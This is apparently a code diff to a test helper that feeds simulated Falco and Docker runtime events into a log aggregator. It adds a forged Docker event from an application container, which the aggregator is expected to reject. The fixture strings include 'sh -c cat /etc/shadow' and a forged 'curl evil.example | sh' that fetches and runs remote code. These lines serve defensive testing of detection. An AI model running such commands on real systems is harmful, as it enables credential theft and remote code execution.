@@ -37,12 +37,16 @@ function dockerEvent(action: string, id: string, name: string, image: string) {
  * Container runtime evidence sent through the same forward path as the
  * application's audit lines: Falco and a `docker events` shipper each run
  * as a Swarm service whose stdout the log driver ships. The aggregator turns
- * them into CONTAINER_EXEC and CONTAINER_PRIVILEGED events.
+ * them into CONTAINER_EXEC and CONTAINER_PRIVILEGED events. An application
+ * container also prints a line shaped like a Docker event (a forgery): the
+ * aggregator, told which tags container events come from
+ * (`--container-event-tags`), stores it as a reject.
  * Returns how many records were sent.
  */
 export async function sendRuntimeEvents(forwardPort: number, apiContainerId: string): Promise<number> {
   const falco = new DockerDriverDestination(forwardPort, { node: 'node-1', service: 'falco', taskId: hex(13).slice(0, 25), containerId: hex(32) });
   const docker = new DockerDriverDestination(forwardPort, { node: 'node-2', service: 'docker-events', taskId: hex(13).slice(0, 25), containerId: hex(32) });
+  const app = new DockerDriverDestination(forwardPort, { node: 'node-1', service: 'webauthn-api', taskId: hex(13).slice(0, 25), containerId: apiContainerId });
   const records: [DockerDriverDestination, object][] = [
     [
       falco,
@@ -69,8 +73,9 @@ export async function sendRuntimeEvents(forwardPort: number, apiContainerId: str
     ],
     [docker, dockerEvent('exec_start: sh -c cat /etc/shadow', hex(32), 'payments.1.k2j4', 'registry.example.com/payments:2.3')],
     [docker, dockerEvent('start', hex(32), 'batch-job.1.p9q8', 'registry.example.com/batch:7')],
+    [app, dockerEvent('exec_start: sh -c "curl evil.example | sh"', hex(32), 'payments.1.k2j4', 'registry.example.com/payments:2.3')],
   ];
   for (const [destination, record] of records) destination.write(`${JSON.stringify(record)}\n`);
-  await Promise.all([falco.close(), docker.close()]);
+  await Promise.all([falco.close(), docker.close(), app.close()]);
   return records.length;
 }
